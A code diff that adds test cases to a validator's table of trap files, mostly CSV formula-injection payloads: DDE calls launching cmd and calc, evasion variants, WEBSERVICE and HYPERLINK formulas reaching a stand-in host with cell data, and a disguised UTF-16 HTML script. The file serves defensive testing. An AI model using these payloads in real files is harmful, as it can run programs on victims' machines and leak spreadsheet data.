@@ -228,6 +228,24 @@ OTHERS: dict[str, Trap] = {
     "a cell that calls a program": ("a.csv", b"a;=cmd|' /C calc'!A0\n", R.TEXT_FORMULA),
     "a cell that calls by a plus": ("a.csv", b"a\n+cmd|'/C calc'!A0\n", R.TEXT_FORMULA),
     "a cell that fetches": ("a.csv", b'a;"=WEBSERVICE(""https://piege.test"")"\n', R.TEXT_FORMULA),
+    "a formula that begins long before": (
+        "a.csv",
+        b"a;=A1" + b"+A1" * 200 + b"+cmd|' /C calc'!A0\n",
+        R.TEXT_FORMULA,
+    ),
+    "a formula over two lines": ("a.csv", b'a;"=1+\nWEBSERVICE(1)"\n', R.TEXT_FORMULA),
+    "a formula over two lines that nothing ends": (
+        "a.csv",
+        b"a;\"=1+\ncmd|'/C a'!A0",
+        R.TEXT_FORMULA,
+    ),
+    "a cell of a wide sign": ("a.csv", "a;\uff1dcmd|' /C a'!A0\n".encode(), R.TEXT_FORMULA),
+    "a cell parted by a bar": ("a.csv", b"a|=cmd|' /C calc'!A0\n", R.TEXT_FORMULA),
+    "a page in another alphabet": (
+        "a.txt",
+        "\ufeff<html><script>a()</script>".encode("utf-16-le"),
+        R.DISGUISED,
+    ),
     "a cell that links": ("a.csv", b'a,=HYPERLINK("https://piege.test?"&A1)\n', R.TEXT_FORMULA),
 }
 
